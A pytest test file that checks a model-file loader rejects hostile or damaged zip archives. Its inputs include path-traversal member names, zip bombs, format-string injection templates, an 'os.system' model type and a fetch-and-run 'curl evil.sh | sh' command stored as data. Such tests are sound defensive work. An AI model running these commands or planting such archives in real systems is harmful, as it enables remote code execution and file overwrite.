"""Hostile and damaged model files are refused with a clear reason.

Tests behavemodel/artifacts/_archive.py, _spec.py, _manifest.py and the reader in _v1.py.
"""

from __future__ import annotations

import hashlib
import io
import struct
import warnings
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pyarrow as pa
import pyarrow.parquet as pq
import pytest

import behavemodel
from behavemodel.artifacts import (
    ArtifactError,
    ArtifactWarning,
    FormatVersionError,
    IntegrityError,
    ManifestError,
    SizeLimits,
    UnknownModelTypeError,
    UnsafeArchiveError,
    VersionMismatchWarning,
    _v1,
    load,
)
from behavemodel.exceptions import BehaveModelError
from behavemodel.models import BaselineDetector

Rezip = Callable[..., Path]
Member = tuple[zipfile.ZipInfo, bytes]


def refusal(path: Path, kind: type[Exception], match: str, **kwargs: Any) -> ArtifactError:
    with pytest.raises(kind, match=match) as caught:
        load(path, **kwargs)
    err = caught.value
    assert isinstance(err, ArtifactError) and isinstance(err, BehaveModelError)
    assert isinstance(err, ValueError)
    assert "\n" not in str(err)  # one line
    assert str(err).startswith(str(path))
    return err


def rename(old: str, new: str) -> Callable[[list[Member]], list[Member]]:
    def edit(entries: list[Member]) -> list[Member]:
        out = []
        for info, data in entries:
            if info.filename == old:
                info = zipfile.ZipInfo(new, date_time=info.date_time)
            out.append((info, data))
        return out

    return edit


def add(name: str, data: bytes, method: int = zipfile.ZIP_STORED) -> Callable[..., list[Member]]:
    def edit(entries: list[Member]) -> list[Member]:
        info = zipfile.ZipInfo(name)
        info.compress_type = method
        return [*entries, (info, data)]

    return edit


def replace_member(name: str, change: Callable[[bytes], bytes]) -> Callable[..., list[Member]]:
    def edit(entries: list[Member]) -> list[Member]:
        return [(i, change(d) if i.filename == name else d) for i, d in entries]

    return edit


def flip_byte(data: bytes, position: int = -100) -> bytes:
    buf = bytearray(data)
    buf[position] ^= 0x01
    return bytes(buf)


def parquet(table: pa.Table) -> bytes:
    sink = io.BytesIO()
    pq.write_table(table, sink)
    return sink.getvalue()


# -- the container --------------------------------------------------------------------
def test_not_a_zip(tmp_path: Path) -> None:
    path = tmp_path / "model.bmz"
    path.write_bytes(b"\x80\x04\x95pickle? no thanks")
    refusal(path, ArtifactError, "not a readable zip archive")


def test_missing_file(tmp_path: Path) -> None:
    refusal(tmp_path / "nope.bmz", ArtifactError, "cannot open the model file")


def test_zip_without_manifest(tmp_path: Path) -> None:
    path = tmp_path / "model.bmz"
    with zipfile.ZipFile(path, "w") as zf:
        zf.writestr("stats.parquet", b"x")
    refusal(path, IntegrityError, "has no manifest.json")


def test_one_byte_changed_in_a_member(saved: Path, rezip: Rezip) -> None:
    path = rezip(saved, members=replace_member("stats.parquet", flip_byte))
    err = refusal(path, IntegrityError, "does not match the SHA-256 in the manifest")
    assert err.member == "stats.parquet"


def test_one_byte_changed_in_the_file(saved: Path) -> None:
    data = bytearray(saved.read_bytes())
    with zipfile.ZipFile(saved) as zf:
        info = zf.getinfo("stats.parquet")
    # The stored member's data starts after its local header (30 bytes + name + extra).
    start = info.header_offset + 30 + len(info.filename.encode()) + len(info.extra)
    data[start + info.compress_size // 2] ^= 0xFF
    saved.write_bytes(bytes(data))
    refusal(saved, IntegrityError, "'stats.parquet' is damaged")


def test_added_member(saved: Path, rezip: Rezip) -> None:
    path = rezip(saved, members=add("payload.so", b"\x7fELF..."))
    refusal(path, IntegrityError, r"holds member\(s\) \['payload.so'\] that the manifest does not")


def test_added_member_listed_in_the_manifest(saved: Path, rezip: Rezip) -> None:
    extra = parquet(pa.table({"x": [1]}))

    def manifest(doc: dict[str, Any]) -> None:
        doc["members"]["extra.parquet"] = {
            "sha256": hashlib.sha256(extra).hexdigest(),
            "size": len(extra),
            "rows": 1,
        }

    path = rezip(saved, manifest=manifest, members=add("extra.parquet", extra))
    refusal(path, IntegrityError, r"a BaselineDetector is saved as \['stats.parquet'\]")


def test_missing_member(saved: Path, rezip: Rezip) -> None:
    path = rezip(saved, members=lambda es: [e for e in es if e[0].filename != "stats.parquet"])
    refusal(path, IntegrityError, r"\['stats.parquet'\] listed in the manifest are missing")


@pytest.mark.parametrize(
    ("name", "reason"),
    [
        ("../evil", "'..' component"),
        ("../stats.parquet", "'..' component"),
        ("state/../../evil.parquet", "'..' component"),
        ("/etc/cron.d/evil", "absolute path"),
        ("C:/Windows/evil.dll", "absolute path"),
        ("state\\..\\evil", "backslash"),
        ("./stats.parquet", "empty or '.' component"),
        ("state//stats.parquet", "empty or '.' component"),
        ("state/", "empty or '.' component"),
        ("stats\x1b[2J.parquet", "control characters"),
    ],
)
def test_unsafe_member_names(saved: Path, rezip: Rezip, name: str, reason: str) -> None:
    path = rezip(saved, members=rename("stats.parquet", name))
    err = refusal(path, UnsafeArchiveError, f"is unsafe: it .*{reason}")
    assert err.member == name


def test_member_name_with_a_nul_byte(saved: Path, rezip: Rezip) -> None:
    # zipfile cuts names at NUL, so a stored "stats.parquet\0.so" would read as
    # "stats.parquet"; the raw name must be refused.
    path = rezip(saved, members=add("stats.parquetX.so", b"payload"))
    raw = path.read_bytes()
    assert raw.count(b"stats.parquetX.so") == 2  # local and central header
    path.write_bytes(raw.replace(b"stats.parquetX.so", b"stats.parquet\x00.so"))
    refusal(path, UnsafeArchiveError, "NUL character")


def test_duplicate_member_names(saved: Path, rezip: Rezip) -> None:
    with zipfile.ZipFile(saved) as zf:
        stats = zf.read("stats.parquet")
    with warnings.catch_warnings():
        # zipfile warns "Duplicate name" when writing one: that is the point here.
        warnings.simplefilter("ignore", UserWarning)
        path = rezip(saved, members=add("stats.parquet", stats))
    refusal(path, UnsafeArchiveError, "appears twice")


def test_compression_method_other_than_stored_or_deflate(saved: Path, rezip: Rezip) -> None:
    def recompress(entries: list[Member]) -> list[Member]:
        for info, _ in entries:
            if info.filename == "stats.parquet":
                info.compress_type = zipfile.ZIP_BZIP2
        return entries

    path = rezip(saved, members=recompress)
    refusal(path, UnsafeArchiveError, "compression method 12")


def _central_records(raw: bytes | bytearray, name: str) -> list[int]:
    """Offsets of the central directory records of member ``name``."""
    found, offset = [], raw.find(b"PK\x01\x02")
    while offset >= 0:
        name_len = struct.unpack_from("<H", raw, offset + 28)[0]
        if raw[offset + 46 : offset + 46 + name_len] == name.encode():
            found.append(offset)
        offset = raw.find(b"PK\x01\x02", offset + 4)
    return found


def test_encrypted_member(saved: Path) -> None:
    raw = bytearray(saved.read_bytes())
    (record,) = _central_records(raw, "stats.parquet")
    flags = struct.unpack_from("<H", raw, record + 8)[0]
    struct.pack_into("<H", raw, record + 8, flags | 0x1)  # the "encrypted" bit
    saved.write_bytes(bytes(raw))
    refusal(saved, UnsafeArchiveError, "is encrypted")


# -- zip bombs and size limits --------------------------------------------------------
def test_member_declaring_more_than_the_limit(saved: Path, rezip: Rezip) -> None:
    bomb = b"\x00" * (8 << 20)  # 8 MiB of zeros deflate to about 8 KiB
    path = rezip(
        saved,
        members=lambda es: [
            *[e for e in es if e[0].filename != "stats.parquet"],
            (_deflated("stats.parquet"), bomb),
        ],
    )
    assert path.stat().st_size < 64 << 10
    err = refusal(
        path, UnsafeArchiveError, "declares 8388608 bytes, over the limit of 1048576",
        limits=SizeLimits(member=1 << 20),
    )  # fmt: skip
    assert "zip bomb" in str(err)


def _deflated(name: str) -> zipfile.ZipInfo:
    info = zipfile.ZipInfo(name)
    info.compress_type = zipfile.ZIP_DEFLATED
    return info


def test_members_over_the_total_limit(saved: Path) -> None:
    size = sum(i.file_size for i in zipfile.ZipFile(saved).infolist())
    refusal(
        saved, UnsafeArchiveError, "declare .* bytes in all", limits=SizeLimits(total=size - 1)
    )


def test_manifest_over_its_limit(saved: Path) -> None:
    refusal(saved, UnsafeArchiveError, "'manifest.json' declares", limits=SizeLimits(manifest=100))


def test_file_larger_than_any_model(tmp_path: Path) -> None:
    path = tmp_path / "huge.bmz"
    path.write_bytes(b"\x00" * ((1 << 20) + 200))
    refusal(path, UnsafeArchiveError, "over the limit of 100 bytes", limits=SizeLimits(total=100))


def test_too_many_entries(saved: Path, rezip: Rezip) -> None:
    def many(entries: list[Member]) -> list[Member]:
        return entries + [(zipfile.ZipInfo(f"x{i}.parquet"), b"") for i in range(70)]

    refusal(rezip(saved, members=many), UnsafeArchiveError, "has 72 entries")


def test_member_inflating_beyond_its_declared_size(saved: Path, rezip: Rezip) -> None:
    """A lying header: the central directory declares 1000 bytes of an 8 MiB member."""
    bomb = b"\x00" * (8 << 20)
    path = rezip(saved, members=lambda es: [*es, (_deflated("bomb.parquet"), bomb)])
    raw = bytearray(path.read_bytes())
    (record,) = _central_records(raw, "bomb.parquet")
    struct.pack_into("<I", raw, record + 24, 1000)  # uncompressed size
    path.write_bytes(bytes(raw))
    with zipfile.ZipFile(path) as zf:
        assert zf.getinfo("bomb.parquet").file_size == 1000
    # Listed nowhere, so refused before reading; the reader itself stops at 1000 bytes.
    refusal(path, IntegrityError, "bomb.parquet")
    from behavemodel.artifacts._archive import Archive

    with Archive.open(path, SizeLimits()) as archive, pytest.raises(IntegrityError) as caught:
        archive.read("bomb.parquet")
    assert "damaged" in str(caught.value) or "declares" in str(caught.value)


# -- the manifest ---------------------------------------------------------------------
@pytest.mark.parametrize(
    ("content", "match"),
    [
        (b"{", "not valid JSON: Expecting property name"),
        (b'{"format": "behavemodel-model", "format": "x"}', "'format' appears twice"),
        (b'{"n": NaN}', "NaN is not a JSON number"),
        (b'{"n": "\xff"}', "is not UTF-8"),
        (b"[1, 2]", "must hold a JSON object"),
        (b"[" * 100_000 + b"]" * 100_000, "nested too deeply|not valid JSON"),
    ],
)
def test_malformed_manifest(saved: Path, rezip: Rezip, content: bytes, match: str) -> None:
    path = rezip(saved, members=replace_member("manifest.json", lambda _: content))
    refusal(path, ManifestError, match)


def _set(doc: dict[str, Any], where: str, value: Any) -> None:
    keys = where.split("/")
    target: Any = doc
    for key in keys[:-1]:
        target = target[int(key)] if isinstance(target, list) else target[key]
    if value is _DELETE:
        del target[keys[-1]]
    else:
        target[keys[-1]] = value


_DELETE = object()


@pytest.mark.parametrize(
    ("where", "value", "match"),
    [
        ("members/stats.parquet/size", "3355", r"field \"members\['stats.parquet'\].size\" must"),
        ("members/stats.parquet/sha256", "ABC", "64 lowercase hexadecimal digits"),
        ("model/params/novelty_threshold", "high", "'model.params.novelty_threshold' must be a"),
        ("model/params/novelty_threshold", 7, "between 0 and 1"),
        ("model/params/alert_while_learning", 1, "must be true or false; got 1"),
        ("model/state_version", True, "'model.state_version' must be an integer"),
        ("training/events", -1, "'training.events' must be an integer of at least 0"),
        ("training/first_event", 1700000000, "must be a UTC time"),
        ("created", "yesterday", "'created' must be a UTC time"),
        ("signature", "yes", "'signature' must be an object or null"),
        ("model/config/extractors/0/template", "{exe:>999999999}", "no '!' conversions"),
        ("model/config/extractors/0/template", "{exe.__class__}", "no '!' conversions"),
        ("model/config/extractors/0/keys/0/directory_depth", 10**9, "at most 1000"),
        ("model/config/groups/mapping", ["web-01"], "'model.config.groups.mapping' must be"),
        ("model/feature_names_in", ["time", 3], r"'model.feature_names_in\[1\]' must be a"),
        ("model/n_features_in", 999, "lists 2 names|lists .* names"),
        ("members", {"../evil.parquet": {}}, "has the key '../evil.parquet'"),
        ("training", _DELETE, "lacks the field 'training'"),
        ("model/params/bucket", _DELETE, "lacks the field 'model.params.bucket'"),
        ("model/colour", "red", r"unknown field\(s\) \['model.colour'\]"),
    ],
)
def test_wrong_manifest_fields(
    saved: Path, rezip: Rezip, where: str, value: Any, match: str
) -> None:
    path = rezip(saved, manifest=lambda doc: _set(doc, where, value))
    refusal(path, ManifestError, match)


def test_state_that_does_not_rebuild(saved: Path, rezip: Rezip) -> None:
    path = rezip(
        saved,
        manifest=lambda d: _set(d, "model/config/extractors/0/event_types", ["evil_event"]),
    )
    refusal(path, ArtifactError, "the saved BaselineDetector does not rebuild: .*evil_event")


def test_parquet_member_with_other_columns(saved: Path, rezip: Rezip) -> None:
    other = parquet(pa.table({"cmd": ["curl evil.sh | sh"]}))

    def manifest(doc: dict[str, Any]) -> None:
        doc["members"]["stats.parquet"] = {
            "sha256": hashlib.sha256(other).hexdigest(),
            "size": len(other),
            "rows": 1,
        }

    path = rezip(
        saved, manifest=manifest, members=replace_member("stats.parquet", lambda _: other)
    )
    refusal(path, IntegrityError, r"has the columns \['cmd'\]")


def test_parquet_member_with_wrong_row_count(saved: Path, rezip: Rezip) -> None:
    path = rezip(saved, manifest=lambda d: _set(d, "members/stats.parquet/rows", 1))
    refusal(path, IntegrityError, "holds .* rows; the manifest says 1")


def test_member_that_is_not_parquet(saved: Path, rezip: Rezip) -> None:
    junk = b"not parquet at all"

    def manifest(doc: dict[str, Any]) -> None:
        doc["members"]["stats.parquet"].update(
            sha256=hashlib.sha256(junk).hexdigest(), size=len(junk)
        )

    path = rezip(saved, manifest=manifest, members=replace_member("stats.parquet", lambda _: junk))
    refusal(path, IntegrityError, "is not a readable Parquet table")


# -- types and versions ----------------------------------------------------------------
def test_unknown_model_type(saved: Path, rezip: Rezip) -> None:
    path = rezip(saved, manifest=lambda d: _set(d, "model/type", "os.system"))
    err = refusal(path, UnknownModelTypeError, "model type 'os.system' is not one")
    assert "BaselineDetector" in str(err) and "never from the file" in str(err)


def test_newer_state_version(saved: Path, rezip: Rezip) -> None:
    path = rezip(saved, manifest=lambda d: _set(d, "model/state_version", 2))
    refusal(path, UnknownModelTypeError, "layout version 2; this behavemodel reads version 1")


def test_newer_major_format(saved: Path, rezip: Rezip) -> None:
    def bump(doc: dict[str, Any]) -> dict[str, Any]:
        # A format 2 manifest may look nothing like format 1.
        return {"format": "behavemodel-model", "format_version": "2.0", "tables": []}

    err = refusal(rezip(saved, manifest=bump), FormatVersionError, "format 2.0, newer than")
    assert "Upgrade behavemodel" in str(err)


def test_older_major_format_has_no_reader(saved: Path, rezip: Rezip) -> None:
    path = rezip(saved, manifest=lambda d: _set(d, "format_version", "0.9"))
    refusal(path, FormatVersionError, r"format 0.9, older than any this .* reads \(\[1\]\)")


@pytest.mark.parametrize("version", ["1", "1.0.0", "v1.0", "01.0", ""])
def test_malformed_format_version(saved: Path, rezip: Rezip, version: str) -> None:
    path = rezip(saved, manifest=lambda d: _set(d, "format_version", version))
    refusal(path, ManifestError, "'format_version' must be 'MAJOR.MINOR'")


def test_other_format_name(saved: Path, rezip: Rezip) -> None:
    path = rezip(saved, manifest=lambda d: _set(d, "format", "skops"))
    refusal(path, ArtifactError, "not a behavemodel model file: .* says format 'skops'")


def test_newer_minor_format_loads_ignoring_new_fields(
    model: BaselineDetector, saved: Path, rezip: Rezip
) -> None:
    def newer(doc: dict[str, Any]) -> None:
        doc["format_version"] = "1.7"
        doc["lineage"] = {"parent": "approved.bmz"}
        doc["model"]["params"]["new_knob"] = 3

    path = rezip(saved, manifest=newer)
    with pytest.warns(ArtifactWarning, match=r"ignored the field\(s\) \['lineage', 'model.par"):
        loaded = load(path)
    assert loaded.stats_.equals(model.stats_)


def test_older_minor_format_loads(
    model: BaselineDetector, saved: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(_v1, "FORMAT_VERSION", (1, 3))  # pretend this reader is 1.3
    assert load(saved).stats_.equals(model.stats_)


def test_other_library_version_loads_with_a_warning(
    model: BaselineDetector, saved: Path, rezip: Rezip
) -> None:
    path = rezip(saved, manifest=lambda d: _set(d, "behavemodel_version", "0.0.9"))
    expected = f"saved by behavemodel 0.0.9; this is behavemodel {behavemodel.__version__}"
    with pytest.warns(VersionMismatchWarning, match=expected):
        loaded = load(path)
    assert loaded.stats_.equals(model.stats_)


def test_same_library_version_loads_silently(saved: Path) -> None:
    with warnings.catch_warnings():
        warnings.simplefilter("error")
        load(saved)
